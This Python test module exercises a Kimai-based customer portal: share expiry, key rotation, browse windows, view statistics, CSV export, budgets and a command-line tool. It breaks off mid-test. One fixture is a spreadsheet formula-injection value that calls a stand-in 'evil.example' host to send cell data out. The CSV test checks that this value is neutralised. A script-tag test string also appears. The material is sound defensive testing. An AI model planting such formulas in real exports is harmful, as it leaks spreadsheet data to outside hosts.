"""Beyond the plugin: expiry dates, key rotation, browse windows, view statistics, the CSV
download, monthly budgets of the viewed month, `portal share` on the command line, and two
portal processes behind one nginx upstream -- end to end through nginx on a real Kimai
database (kimai-2.45-rates.sql plus the generated customer "Gen GmbH" of test_share.py,
Europe/Berlin).

Expected figures are the hand-computed ones of test_share.py: April 2026 on the customer
share has 9 lines (NONE), 7 when merged, 48600 s = 13:30, billable money 685.00."""

import csv
import datetime
import io
import os
import re
import secrets
import subprocess
import time
import urllib.parse
from zoneinfo import ZoneInfo

from . import common
from . import harness
from .test_admin import DUMP_HASH, csrf, form_login_payload, new_session
from .test_share import GEN_DATA, GEN_RECORDS, Page, add_share, timesheet_insert
from .test_unlock import bcrypt, cookie_of

BERLIN = ZoneInfo('Europe/Berlin')
LIST = '/en/admin/customer-portal'
GEN = 50          # customer "Gen GmbH"
ALPHA = 51        # its visible project
VIEWS_FLUSH_S = 5  # include/views.h

# A record whose description a spreadsheet would run as a formula.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def setup(env):
    fx = common.installed_kimai(env)
    m = fx.m
    m.sql(fx.db, GEN_DATA + timesheet_insert(GEN_RECORDS, 'Europe/Berlin') +
          timesheet_insert([(530, 60, 51, '2026-04-20 08:00:00', '2026-04-20 08:15:00', 900,
                             60, 15, 1, FORMULA)], 'Europe/Berlin'))
    return common.start_portal(env, fx)


# --------------------------------------------------------------------------------------
# helpers

def sql(fx, q):
    return fx.m.sql(fx.db, q)


def val(fx, q):
    return fx.m.value(fx.db, q)


def share_id(fx, key):
    return int(val(fx, f"SELECT id FROM kimai2_customer_portals WHERE share_key = '{key}'"))


def share_key(fx, sid):
    return val(fx, f'SELECT share_key FROM kimai2_customer_portals WHERE id = {sid}')


def settings(fx, sid, expires=None, wfrom=None, wto=None):
    """Writes the settings row as portal-install's table holds it (UTC DATETIME, DATEs)."""
    q = lambda v: 'NULL' if v is None else f"'{v}'"  # noqa: E731
    sql(fx, f"INSERT INTO kimai2_customer_portals_settings (share_id, expires_at, window_from,"
            f" window_to, created_at, updated_at) VALUES ({sid}, {q(expires)}, {q(wfrom)},"
            f" {q(wto)}, UTC_TIMESTAMP(), UTC_TIMESTAMP()) ON DUPLICATE KEY UPDATE"
            f" expires_at = VALUES(expires_at), window_from = VALUES(window_from),"
            f" window_to = VALUES(window_to)")


def path(key, sub=''):
    return f'/en/auth/customer-portal/{key}{sub}'


def get(fx, key, query='', sub='', n=None, **kw):
    return (n or fx.n).get(path(key, sub) + (f'?{query}' if query else ''), **kw)


def berlin_today():
    return datetime.datetime.now(BERLIN).date()


def admin(fx):
    return new_session(fx, form_login_payload(1, 'admin', DUMP_HASH))


_addr = iter(range(1, 10000))


def client():
    """An X-Forwarded-For address of its own, so throttle counts of tests never meet."""
    n = next(_addr)
    return {'X-Forwarded-For': f'203.0.113.{n % 250 + 1}' if n < 250 else f'198.18.{n // 250}.{n % 250 + 1}'}


def not_found_body(fx, key):
    """The 404 page with the key blanked (the language menu links to the same path)."""
    r = get(fx, key)
    assert r.status == 404, (r.status, r.text[:300])
    return r.text.replace(key, 'KEY')


def csv_rows(resp):
    assert resp.status == 200, (resp.status, resp.text[:500])
    assert resp.body.startswith(b'\xef\xbb\xbf'), resp.body[:20]
    text = resp.body[3:].decode('utf-8')
    # RFC 4180: every record ends with CRLF (also the last one).
    assert text.endswith('\r\n'), text[-20:]
    return list(csv.reader(io.StringIO(text, newline='')))


def csv_lines(rows):
    """The table lines of a CSV: the rows between the header and the first empty row
    (after it come the closing rows: totals, then a sign-off)."""
    end = rows.index([]) if [] in rows else len(rows)
    return rows[1:end]


def csv_totals(rows):
    """The totals rows after the table lines, up to the next empty row."""
    if [] not in rows:
        return []
    rest = rows[rows.index([]) + 1:]
    return rest[:rest.index([])] if [] in rest else rest


def run_cli(fx, *args, stdin='', env_extra=None):
    """`portal share ...` with the test database; no cookie secret in the environment."""
    env = {k: v for k, v in os.environ.items()
           if k not in ('PORTAL_SECRET', 'APP_SECRET', 'DATABASE_URL')}
    env.update(env_extra or {})
    return subprocess.run([str(harness.binary('portal')), '--database-url', fx.url, 'share']
                          + list(args), input=stdin, capture_output=True, text=True, env=env,
                          timeout=60)


# --------------------------------------------------------------------------------------
# expiry

def test_expired_share_answers_like_an_unknown_key(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    assert get(fx, key, 'year=2026&month=4').status == 200
    settings(fx, sid, expires=(datetime.datetime.utcnow() + datetime.timedelta(hours=1))
             .strftime('%Y-%m-%d %H:%M:%S'))
    assert get(fx, key, 'year=2026&month=4').status == 200
    settings(fx, sid, expires=(datetime.datetime.utcnow() - datetime.timedelta(seconds=5))
             .strftime('%Y-%m-%d %H:%M:%S'))
    unknown = 'A' * 20
    assert not_found_body(fx, key) == not_found_body(fx, unknown)
    # Every way in is closed: project page, CSV, the old plugin URL.
    for sub in (f'/p/{ALPHA}', '/csv', f'/p/{ALPHA}/csv'):
        assert get(fx, key, 'year=2026&month=4', sub).status == 404, sub
    r = fx.n.get(f'/en/auth/shared-project-timesheets/customer/{GEN}/{key}')
    assert r.status == 404
    # Without an expiry the share is back.
    settings(fx, sid)
    assert get(fx, key).status == 200


def test_admin_expiry_is_the_last_day_in_the_customers_zone(fx):
    c = admin(fx)
    page = fx.n.get(f'{LIST}/create?type=customer', cookies=c)
    assert page.status == 200 and 'name="expires"' in page.text
    assert 'type="date"' in page.text and 'name="window_from"' in page.text
    today = berlin_today()
    r = fx.n.post(f'{LIST}/create?type=customer', {
        '_token': csrf(page), 'customer': str(GEN), 'record_merge_mode': 'NONE',
        'expires': today.isoformat()}, cookies=c)
    assert r.status == 303, (r.status, r.text[:500])
    sid = int(val(fx, 'SELECT MAX(id) FROM kimai2_customer_portals'))
    key = share_key(fx, sid)
    # Stored: the first instant of tomorrow in Berlin, as UTC.
    next_midnight = datetime.datetime.combine(today + datetime.timedelta(days=1),
                                              datetime.time(), BERLIN)
    want = next_midnight.astimezone(datetime.timezone.utc).strftime('%Y-%m-%d %H:%M:%S')
    assert val(fx, f'SELECT expires_at FROM kimai2_customer_portals_settings '
                   f'WHERE share_id = {sid}') == want
    # Today is still a valid day.
    assert get(fx, key).status == 200
    # The edit form shows the date back; the list says active with the date.
    edit = fx.n.get(f'{LIST}/{sid}/{key}', cookies=c)
    assert f'name="expires" value="{today.isoformat()}"' in edit.text, edit.text[:3000]
    lst = fx.n.get(LIST, cookies=c).text
    row = re.search(rf'<tr>(?:(?!</tr>).)*{key}(?:(?!</tr>).)*</tr>', lst, re.S).group(0)
    assert 'data-status="active"' in row and f'data-expires="{today.isoformat()}"' in row, row
    # Yesterday: expired at once, and the list says so.
    yesterday = today - datetime.timedelta(days=1)
    form = fx.n.get(f'{LIST}/{sid}/{key}', cookies=c)
    r = fx.n.post(f'{LIST}/{sid}/{key}', {'_token': csrf(form), 'customer': str(GEN),
                                          'record_merge_mode': 'NONE',
                                          'expires': yesterday.isoformat()}, cookies=c)
    assert r.status == 303, (r.status, r.text[:500])
    assert get(fx, key).status == 404
    row = re.search(rf'<tr>(?:(?!</tr>).)*{key}(?:(?!</tr>).)*</tr>',
                    fx.n.get(LIST, cookies=c).text, re.S).group(0)
    assert 'data-status="expired"' in row and 'Expired' in row, row
    # Clearing the field removes the expiry.
    form = fx.n.get(f'{LIST}/{sid}/{key}', cookies=c)
    r = fx.n.post(f'{LIST}/{sid}/{key}', {'_token': csrf(form), 'customer': str(GEN),
                                          'record_merge_mode': 'NONE', 'expires': ''},
                  cookies=c)
    assert r.status == 303
    assert get(fx, key).status == 200


def test_admin_rejects_bad_dates_and_windows(fx):
    c = admin(fx)
    before = val(fx, 'SELECT COUNT(*) FROM kimai2_customer_portals')
    for fields in ({'expires': '2026-02-30'}, {'expires': '31.12.2026'},
                   {'window_from': '2026-13'}, {'window_from': '2026-05', 'window_to': '2026-04'},
                   {'window_to': '1969-12'}):
        page = fx.n.get(f'{LIST}/create?type=customer', cookies=c)
        form = {'_token': csrf(page), 'customer': str(GEN), 'record_merge_mode': 'NONE'}
        form.update(fields)
        r = fx.n.post(f'{LIST}/create?type=customer', form, cookies=c)
        assert r.status == 200, (fields, r.status)
        assert 'field-error' in r.text and 'aria-invalid="true"' in r.text, fields
        # What was typed is shown again.
        for v in fields.values():
            assert f'value="{v}"' in r.text, (fields, v)
    assert val(fx, 'SELECT COUNT(*) FROM kimai2_customer_portals') == before


# --------------------------------------------------------------------------------------
# key rotation

def test_rotation_kills_the_old_url_and_cookies_keeps_settings(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    sql(fx, f"UPDATE kimai2_customer_portals SET password = '{bcrypt('rot8')}',"
            f" annual_chart_visible = 1, record_merge_mode = 'MERGE' WHERE id = {sid}")
    settings(fx, sid, expires='2099-01-01 00:00:00', wfrom='2026-01-01')
    sql(fx, f'INSERT INTO kimai2_customer_portals_views (share_id, views) VALUES ({sid}, 7)')
    hdrs = client()
    r = fx.n.post(path(key), {'spt-password': 'rot8'}, headers=hdrs)
    assert r.status == 303
    cookie, _ = cookie_of(r, sid)
    jar = {f'portal_unlock_{sid}': cookie}
    assert 'id="share-name">Gen GmbH<' in get(fx, key, headers=hdrs, cookies=jar).text

    c = admin(fx)
    confirm = fx.n.get(f'{LIST}/{sid}/{key}/rotate', cookies=c)
    assert confirm.status == 200 and 'method="post"' in confirm.text
    assert share_key(fx, sid) == key, 'a GET must not rotate'
    # No CSRF token: refused, nothing changes.
    r = fx.n.post(f'{LIST}/{sid}/{key}/rotate', {'_token': '0' * 64}, cookies=c)
    assert r.status == 400 and share_key(fx, sid) == key
    r = fx.n.post(f'{LIST}/{sid}/{key}/rotate', {'_token': csrf(confirm)}, cookies=c)
    assert r.status == 303 and r.headers['Location'].endswith(f'{LIST}?done=rotated')
    new = share_key(fx, sid)
    assert new != key and re.fullmatch(r'[A-Za-z0-9]{20}', new)
    # The old URL is dead at once, every way.
    assert get(fx, key, headers=hdrs, cookies=jar).status == 404
    assert get(fx, key, sub='/csv', headers=hdrs, cookies=jar).status == 404
    # The old cookie does not open the new URL: the unlock form, nothing else.
    r = get(fx, new, headers=hdrs, cookies=jar)
    assert r.status == 200 and 'name="spt-password"' in r.text and 'Gen GmbH' not in r.text
    # The same password unlocks the new URL; everything else stayed.
    r = fx.n.post(path(new), {'spt-password': 'rot8'}, headers=hdrs)
    assert r.status == 303
    assert sql(fx, f'SELECT password IS NOT NULL, annual_chart_visible, record_merge_mode'
                   f' FROM kimai2_customer_portals WHERE id = {sid}') == [['1', '1', 'MERGE']]
    assert sql(fx, f'SELECT expires_at, window_from FROM kimai2_customer_portals_settings'
                   f' WHERE share_id = {sid}') == [['2099-01-01 00:00:00', '2026-01-01']]
    # The count is kept, not reset (the views of this test may have been added meanwhile).
    assert int(val(fx, f'SELECT views FROM kimai2_customer_portals_views '
                       f'WHERE share_id = {sid}')) >= 7
    lst = fx.n.get(f'{LIST}?done=rotated', cookies=c).text
    assert 'The share has a new link.' in lst and new in lst and key not in lst


# --------------------------------------------------------------------------------------
# browse window

def test_browse_window_bounds_navigation_and_requests(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    sql(fx, f'UPDATE kimai2_customer_portals SET annual_chart_visible = 1 WHERE id = {sid}')
    settings(fx, sid, wfrom='2026-03-01', wto='2026-04-01')
    # Inside: shown, with links only inside.
    p = Page(get(fx, key, 'year=2026&month=4').text)
    assert len(p.rows) == 10 and p.totals['data-total-duration'] == '49500'
    hrefs = [h for h, _ in p.links]
    assert '?year=2026&month=3' in hrefs and '?year=2026&month=5' not in hrefs
    assert 'rel="next"' not in p.text
    assert [v for v, _, _ in p.selects['month']] == ['3', '4']
    assert [v for v, _, _ in p.selects['year']] == ['2026']
    p = Page(get(fx, key, 'year=2026&month=3').text)
    assert 'rel="prev"' not in p.text and 'rel="next"' in p.text
    # The annual chart shows nothing outside the window: October's records vanish.
    annual = re.findall(r'<td data-seconds="(\d+)">', p.text)
    assert len(annual) == 12 and annual[9] == '0' and annual[3] != '0', annual
    # Outside: 404 for the page, its project page and the CSV.
    for q in ('year=2026&month=2', 'year=2026&month=5', 'year=2025&month=4', 'month=10',
              'year=2027'):
        assert get(fx, key, q).status == 404, q
        assert get(fx, key, q, sub='/csv').status == 404, q
        assert get(fx, key, q, sub=f'/p/{ALPHA}').status == 404, q
    # No month given: the current month, moved into the window.
    now = datetime.datetime.now(BERLIN)
    cur = min(max((now.year, now.month), (2026, 3)), (2026, 4))
    r = get(fx, key)
    assert r.status == 200
    assert f'data-year="{cur[0]}" data-month="{cur[1]}"' in r.text
    # An open end: only a first month.
    settings(fx, sid, wfrom='2026-04-01')
    assert get(fx, key, 'year=2026&month=3').status == 404
    assert get(fx, key, 'year=2026&month=10').status == 200
    settings(fx, sid)
    assert get(fx, key, 'year=2026&month=2').status == 200


def test_admin_window_fields_round_trip(fx):
    c = admin(fx)
    page = fx.n.get(f'{LIST}/create?type=project', cookies=c)
    r = fx.n.post(f'{LIST}/create?type=project', {
        '_token': csrf(page), 'project': str(ALPHA), 'record_merge_mode': 'NONE',
        'window_from': '2026-03', 'window_to': '2026-04'}, cookies=c)
    assert r.status == 303, (r.status, r.text[:500])
    sid = int(val(fx, 'SELECT MAX(id) FROM kimai2_customer_portals'))
    key = share_key(fx, sid)
    assert sql(fx, f'SELECT window_from, window_to, expires_at FROM '
                   f'kimai2_customer_portals_settings WHERE share_id = {sid}') == \
        [['2026-03-01', '2026-04-01', 'NULL']]
    edit = fx.n.get(f'{LIST}/{sid}/{key}', cookies=c).text
    assert 'name="window_from" value="2026-03"' in edit and 'name="window_to" value="2026-04"' in edit
    assert get(fx, key, 'year=2026&month=5').status == 404
    lst = fx.n.get(LIST, cookies=c).text
    assert 'March 2026 – April 2026' in lst


# --------------------------------------------------------------------------------------
# view statistics

def views(fx, sid):
    return sql(fx, f'SELECT views, last_view FROM kimai2_customer_portals_views '
                   f'WHERE share_id = {sid}')


def test_views_are_counted_without_a_write_per_view(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    locked = add_share(fx.m, fx.db, customer=GEN)
    lid = share_id(fx, locked)
    sql(fx, f"UPDATE kimai2_customer_portals SET password = '{bcrypt('pw')}' WHERE id = {lid}")
    # While the views table refuses every write, pages must not notice: no write is
    # part of serving a page.
    sql(fx, "CREATE TRIGGER block_views BEFORE INSERT ON kimai2_customer_portals_views "
            "FOR EACH ROW SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'views blocked'")
    try:
        t0 = datetime.datetime.utcnow().replace(microsecond=0)
        for _ in range(6):
            start = time.monotonic()
            assert get(fx, key, 'year=2026&month=4').status == 200
            assert time.monotonic() - start < 2
        assert fx.n.head(path(key)).status == 200                 # HEAD is no view
        assert get(fx, key, 'year=2026&month=13').status == 400   # nor a bad request
        for _ in range(3):                                        # nor the unlock form
            r = get(fx, locked)
            assert r.status == 200 and 'spt-password' in r.text
        time.sleep(VIEWS_FLUSH_S + 1.5)      # at least one write was tried and refused
        assert views(fx, sid) == []
    finally:
        sql(fx, 'DROP TRIGGER block_views')
    # The counts were kept and arrive with a later write.
    rows = harness.wait_until(lambda: views(fx, sid), VIEWS_FLUSH_S * 3, interval=0.25,
                              what='the view count flush')
    assert rows[0][0] == '6', rows
    last = datetime.datetime.fromisoformat(rows[0][1])
    assert t0 - datetime.timedelta(seconds=2) <= last <= datetime.datetime.utcnow(), (t0, last)
    assert views(fx, lid) == []
    # More views add up, project pages of the share included.
    for _ in range(3):
        assert get(fx, key, sub=f'/p/{ALPHA}').status == 200
    harness.wait_until(lambda: views(fx, sid)[0][0] == '9', VIEWS_FLUSH_S * 3, interval=0.25,
                       what='the second flush')
    # The admin list shows them.
    lst = fx.n.get(LIST, cookies=admin(fx)).text
    row = re.search(rf'<tr>(?:(?!</tr>).)*{key}(?:(?!</tr>).)*</tr>', lst, re.S).group(0)
    assert 'data-views="9"' in row and 'data-last-view=' in row and ' UTC' in row, row


def test_views_are_written_when_the_portal_stops(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    p = fx.env.portal(fx.url, secret=fx.secret, workers=2)
    for _ in range(4):
        assert p.request('GET', path(key)).status == 200
    p.stop()      # SIGTERM right away: well before the next regular flush
    assert views(fx, sid) and views(fx, sid)[0][0] == '4', views(fx, sid)


# --------------------------------------------------------------------------------------
# CSV

def test_csv_of_a_customer_month(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    page = get(fx, key, 'year=2026&month=4')
    p = Page(page.text)
    link = re.search(r'<a class="btn btn-sm csv-download" href="([^"]+)" download>', page.text)
    assert link and link.group(1) == f'/en/auth/customer-portal/{key}/csv?year=2026&amp;month=4'
    r = get(fx, key, 'year=2026&month=4', sub='/csv')
    assert r.headers['Content-Type'] == 'text/csv; charset=utf-8'
    assert r.headers['Content-Disposition'] == \
        "attachment; filename=\"Gen_GmbH-2026-04.csv\"; filename*=UTF-8''Gen%20GmbH-2026-04.csv"
    assert r.headers['X-Content-Type-Options'] == 'nosniff'
    rows = csv_rows(r)
    assert rows[0] == ['Date', 'User', 'Project', 'Description', 'Hours (decimal)',
                       'Duration (h:mm)', 'Billable', 'Hourly rate (EUR)', 'Total (EUR)',
                       'Billable amount (EUR)']
    data = csv_lines(rows)
    # The page's lines, in the page's order.
    assert len(data) == len(p.rows) == 10
    assert [d[0] for d in data] == p.dates()
    assert [round(float(d[4]) * 3600) for d in data] == p.durations()
    assert [d[5] for d in data] == p.col(3 + 1)     # date, user, project, description, h:mm
    assert round(sum(float(d[9]) for d in data), 2) == 700.0  # 685.00 + 15.00 (formula)
    assert p.totals['data-total-rate'] == '700.00'
    # Descriptions: newlines and quotes survive (RFC 4180 quoting), nothing is escaped away.
    descs = [d[3] for d in data]
    assert '<script>alert("x")</script>\nSay "hi" & it\'s\nthird line' in descs
    # The formula is defused with a leading apostrophe.
    assert "'" + FORMULA in descs and FORMULA not in descs
    # Non-billable line: "No", its money outside the billable amount.
    nb = [d for d in data if d[3] == 'Internal training'][0]
    assert nb[6] == 'No' and nb[8] == '100.00' and nb[9] == '0.00', nb
    assert [d for d in data if d[3] == 'Task one A'][0][4:9] == \
        ['1.00', '1:00', 'Yes', '60.00', '60.00']
    assert data[0][2] == 'Alpha'


def test_csv_follows_flags_merge_mode_and_project_page(fx):
    hidden = add_share(fx.m, fx.db, customer=GEN, user=0, rate=0)
    rows = csv_rows(get(fx, hidden, 'year=2026&month=4', sub='/csv'))
    assert rows[0] == ['Date', 'Project', 'Description', 'Hours (decimal)', 'Duration (h:mm)',
                       'Billable']
    body = '\n'.join(','.join(r) for r in rows)
    for secret in ('Alex', '山田太郎', 'no.alias.user', '60.00', '685'):
        assert secret not in body, secret
    merged = add_share(fx.m, fx.db, customer=GEN, mode='MERGE')
    rows = csv_rows(get(fx, merged, 'year=2026&month=4', sub='/csv'))
    p = Page(get(fx, merged, 'year=2026&month=4').text)
    assert len(csv_lines(rows)) == len(p.rows) == 8
    # Two hourly rates on one merged line: each with its duration, as on the page.
    assert '60.00 (1:00); 80.00 (1:00)' in [r[7] for r in csv_lines(rows)], rows
    # The project page of the customer share: no project column.
    rows = csv_rows(get(fx, merged, 'year=2026&month=4', sub=f'/p/{ALPHA}/csv'))
    assert 'Project' not in rows[0] and len(csv_lines(rows)) == 8
    r = get(fx, merged, 'year=2026&month=4', sub=f'/p/{ALPHA}/csv')
    assert 'filename="Alpha-2026-04.csv"' in r.headers['Content-Disposition']
    # A month without records: just the header.
    assert len(csv_rows(get(fx, merged, 'year=2025&month=1', sub='/csv'))) == 1
    # Other languages: translated header, same numbers.
    rows = csv_rows(fx.n.get(f'/de/auth/customer-portal/{merged}/csv?year=2026&month=4'))
    assert rows[0][:2] == ['Datum', 'Benutzer'] and rows[0][-1] == 'Abrechenbarer Betrag (EUR)'
    # Bad input as on the page.
    assert get(fx, merged, 'year=2026&month=0', sub='/csv').status == 400
    assert get(fx, merged, sub=f'/p/{ALPHA + 1}/csv').status == 404
    assert get(fx, 'B' * 20, sub='/csv').status == 404


def foot_lines(text):
    """(class, label, duration, money) of each line of the table's footer."""
    foot = re.search(r'<tfoot>.*?</tfoot>', text, re.S)
    assert foot, 'no table footer'
    return re.findall(r'<tr class="(totals[a-z-]*)"[^>]*>\s*<th scope="row" colspan="\d">([^<]*)'
                      r'</th>\s*<td class="num duration"[^>]*>([^<]*)</td>'
                      r'(?:<td></td><td class="num total-rate"[^>]*>([^<]*)</td>)?', foot.group(0))


def test_totals_with_non_billable_records(fx):
    """April 2026: 10 lines, one of them non-billable (2:00, 100.00).  The footer shows the
    billable total, labelled as such, the non-billable records' sum and the total over
    every record, so the rows add up; the CSV closes with the same rows."""
    key = add_share(fx.m, fx.db, customer=GEN)
    r = get(fx, key, 'year=2026&month=4')
    p = Page(r.text)
    assert foot_lines(r.text) == [
        ('totals', 'Billable total', '11:45', '€700.00'),
        ('totals-nonbillable', 'Non-billable records', '2:00', '€100.00'),
        ('totals-all', 'All records', '13:45', '€800.00')]
    assert p.totals == {'class': 'totals', 'data-total-duration': '49500',
                        'data-total-billable-duration': '42300', 'data-total-rate': '700.00',
                        'data-total-nonbillable-rate': '100.00'}
    # The money of every row adds up to the last line.
    assert round(sum(float(row['attrs']['data-rate']) for row in p.rows), 2) == 800.0
    assert sum(p.durations()) == 49500

    rows = csv_rows(get(fx, key, 'year=2026&month=4', sub='/csv'))
    data = csv_lines(rows)
    assert len(data) == 10
    assert rows[len(data) + 1] == []
    assert csv_totals(rows) == [
        ['Billable total', '', '', '', '11.75', '11:45', '', '', '700.00', '700.00'],
        ['Non-billable records', '', '', '', '2.00', '2:00', '', '', '100.00', '0.00'],
        ['All records', '', '', '', '13.75', '13:45', '', '', '800.00', '700.00']]
    assert round(sum(float(d[8]) for d in data), 2) == 800.0
    assert round(sum(float(d[9]) for d in data), 2) == 700.0
    # The CSV's last row is the last totals row (no sign-off on this share).
    assert rows[-1][0] == 'All records'

    # Without rates: durations only, the same lines.
    hidden = add_share(fx.m, fx.db, customer=GEN, rate=0)
    text = get(fx, hidden, 'year=2026&month=4').text
    assert [line[:3] for line in foot_lines(text)] == [
        ('totals', 'Billable total', '11:45'), ('totals-nonbillable', 'Non-billable records',
                                                '2:00'), ('totals-all', 'All records', '13:45')]
    assert 'data-total-rate' not in text and 'data-total-nonbillable-rate' not in text
    assert 'data-total-billable-duration="42300"' in text
    rows = csv_rows(get(fx, hidden, 'year=2026&month=4', sub='/csv'))
    # date, user, project, description, hours, h:mm, billable
    assert csv_totals(rows) == [['Billable total', '', '', '', '11.75', '11:45', ''],
                                ['Non-billable records', '', '', '', '2.00', '2:00', ''],
                                ['All records', '', '', '', '13.75', '13:45', '']]
    # Another language: its own labels, the same numbers.
    rows = csv_rows(fx.n.get(f'/de/auth/customer-portal/{key}/csv?year=2026&month=4'))
    assert [t[0] for t in csv_totals(rows)] == ['Abrechenbare Summe',
                                                'Nicht abrechenbare Einträge', 'Alle Einträge']
    assert [t[8] for t in csv_totals(rows)] == ['700.00', '100.00', '800.00']


def test_totals_without_non_billable_records(fx):
    """October 2026: every record billable.  The footer is the one line it always was,
    only its label says "billable"; the CSV closes with that one row."""
    key = add_share(fx.m, fx.db, customer=GEN)
    r = get(fx, key, 'year=2026&month=10')
    foot = re.search(r'<tfoot>.*?</tfoot>', r.text, re.S).group(0)
    assert foot == (
        '<tfoot><tr class="totals" data-total-duration="9000" data-total-rate="125.00">\n'
        '<th scope="row" colspan="4">Billable total</th>\n'
        '<td class="num duration" data-label="Duration">2:30</td><td></td>'
        '<td class="num total-rate" data-label="Total">€125.00</td>\n'
        '</tr></tfoot>'), foot
    assert 'nonbillable' not in r.text and 'totals-all' not in r.text
    rows = csv_rows(get(fx, key, 'year=2026&month=10', sub='/csv'))
    assert len(csv_lines(rows)) == 5
    assert csv_totals(rows) == [['Billable total', '', '', '', '2.50', '2:30', '', '', '125.00',
                                 '125.00']]
    assert rows[-1][0] == 'Billable total'
    # A month without records: just the header, no totals.
    assert csv_rows(get(fx, key, 'year=2026&month=7', sub='/csv')) == [rows[0]]


def test_csv_of_a_locked_share_needs_the_unlock(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    sql(fx, f"UPDATE kimai2_customer_portals SET password = '{bcrypt('csvpw')}' WHERE id = {sid}")
    hdrs = client()
    r = get(fx, key, 'year=2026&month=4', sub='/csv', headers=hdrs)
    assert r.status == 200 and r.headers['Content-Type'].startswith('text/html')
    assert 'name="spt-password"' in r.text and 'Gen GmbH' not in r.text
    assert r.headers['Cache-Control'] == 'private, no-store'
    # Unlocking on the CSV URL leads straight back to the download.
    r = fx.n.post(path(key, '/csv?year=2026&month=4'), {'spt-password': 'csvpw'}, headers=hdrs)
    assert r.status == 303 and r.headers['Location'] == path(key, '/csv?year=2026&month=4')
    cookie, attrs = cookie_of(r, sid)
    assert attrs['path'] == path(key)
    r = fx.n.get(r.headers['Location'], headers=hdrs, cookies={f'portal_unlock_{sid}': cookie})
    assert len(csv_lines(csv_rows(r))) == 10 and r.headers['Cache-Control'] == 'private, no-store'


# --------------------------------------------------------------------------------------
# monthly budgets follow the viewed month

def budget_block(text):
    m = re.search(r'<div class="stat budget-stat \w+" data-budget="money".*?</ul>\s*</div>',
                  text, re.S)
    assert m, 'no money budget block'
    return m.group(0)


def test_monthly_budget_of_the_viewed_month(fx):
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    # Both budgets before the first view: the figures are cached for a minute.
    sql(fx, f'UPDATE kimai2_customer_portals SET budget_stats_visible = 1 WHERE id = {sid};'
            f" UPDATE kimai2_customers SET budget = 1000, budget_type = 'month' WHERE id = {GEN};"
            f" UPDATE kimai2_projects SET budget = 500, budget_type = 'month' WHERE id = {ALPHA}")
    try:
        # April 2026: billable money of the month of all the customer's projects, the
        # hidden one's 60.00 included (as Kimai counts): 760.00 of 1000.00.
        b = budget_block(get(fx, key, 'year=2026&month=4').text)
        assert 'class="spent">€760.00<' in b and 'class="percent">76.0%<' in b, b
        # Whole sentences around the figures.
        assert 'data-period="2026-04"' in b and '76.0%</span> used in April 2026<' in b, b
        assert 'used this month' not in b and '€240.00</span> left<' in b, b
        # October 2026: 5 records of 25.00.
        b = budget_block(get(fx, key, 'year=2026&month=10').text)
        assert 'class="spent">€125.00<' in b and '</span> used in October 2026<' in b, b
        # The current month is labelled as such.
        now = datetime.datetime.now(BERLIN)
        b = budget_block(get(fx, key).text)
        assert '</span> used this month<' in b and f'data-period="{now.year:04d}-{now.month:02d}"' in b, b
        # The project list of the customer share follows the month as well.
        text = get(fx, key, 'year=2026&month=3').text
        row = re.search(rf'<tr data-project-id="{ALPHA}">.*?</tr>', text, re.S).group(0)
        assert 'data-period="2026-03"' in row and '(March 2026)' in row, row
    finally:
        sql(fx, f"UPDATE kimai2_customers SET budget = 0, budget_type = NULL WHERE id = {GEN};"
                f" UPDATE kimai2_projects SET budget = 5000, budget_type = NULL WHERE id = {ALPHA}")


# --------------------------------------------------------------------------------------
# portal share (command line)

def test_cli_create_list_rotate_delete(fx):
    r = run_cli(fx, 'create', '--customer', str(GEN), '--merge', 'MERGE', '--show-user',
                '--show-rates', '--budget-stats', '--expires', '2099-12-31',
                '--window-from', '2026-01')
    assert r.returncode == 0, r.stderr
    sid, key, url = r.stdout.rstrip('\n').split('\t')
    assert re.fullmatch(r'[A-Za-z0-9]{20}', key) and url == path(key)
    assert sql(fx, f'SELECT customer_id, project_id, password, record_merge_mode,'
                   f' entry_user_visible, entry_rate_visible, annual_chart_visible,'
                   f' budget_stats_visible FROM kimai2_customer_portals WHERE id = {sid}') == \
        [[str(GEN), 'NULL', 'NULL', 'MERGE', '1', '1', '0', '1']]
    # 2099-12-31 ends at midnight in Berlin (CET): 23:00 UTC.
    assert sql(fx, f'SELECT expires_at, window_from, window_to FROM '
                   f'kimai2_customer_portals_settings WHERE share_id = {sid}') == \
        [['2099-12-31 23:00:00', '2026-01-01', 'NULL']]
    assert fx.n.get(url + '?year=2026&month=4').status == 200
    # list: one tab-separated line per share.
    r = run_cli(fx, 'list')
    assert r.returncode == 0, r.stderr
    line = [ln for ln in r.stdout.splitlines() if ln.startswith(sid + '\t')][0]
    # The last column counts views: the page fetched above may already be written.
    assert line.split('\t')[:8] == [sid, 'customer', key, 'Gen GmbH', 'no',
                                    'merge=MERGE,show-user,show-rates,budget-stats',
                                    '2099-12-31', '2026-01..'], line
    assert line.split('\t')[8] in ('0', '1'), line
    # rotate: a new key, the old URL dead.
    r = run_cli(fx, 'rotate', sid)
    assert r.returncode == 0, r.stderr
    sid2, new, url2 = r.stdout.rstrip('\n').split('\t')
    assert sid2 == sid and new != key and url2 == path(new)
    assert fx.n.get(url).status == 404 and fx.n.get(url2).status == 200
    # delete
    r = run_cli(fx, 'delete', sid)
    assert r.returncode == 0, r.stderr
    assert fx.n.get(url2).status == 404
    assert val(fx, f'SELECT COUNT(*) FROM kimai2_customer_portals WHERE id = {sid}') == '0'
    assert val(fx, f'SELECT COUNT(*) FROM kimai2_customer_portals_settings '
                   f'WHERE share_id = {sid}') == '0'


def test_cli_set_password_from_stdin(fx):
    r = run_cli(fx, 'create', '--project', str(ALPHA))
    assert r.returncode == 0, r.stderr
    sid, key, url = r.stdout.rstrip('\n').split('\t')
    r = run_cli(fx, 'set-password', sid, stdin='cli pass wörd\n')
    assert r.returncode == 0, r.stderr
    stored = val(fx, f'SELECT password FROM kimai2_customer_portals WHERE id = {sid}')
    assert stored.startswith('$argon2id$'), stored
    assert 'cli pass' not in r.stdout + r.stderr
    hdrs = client()
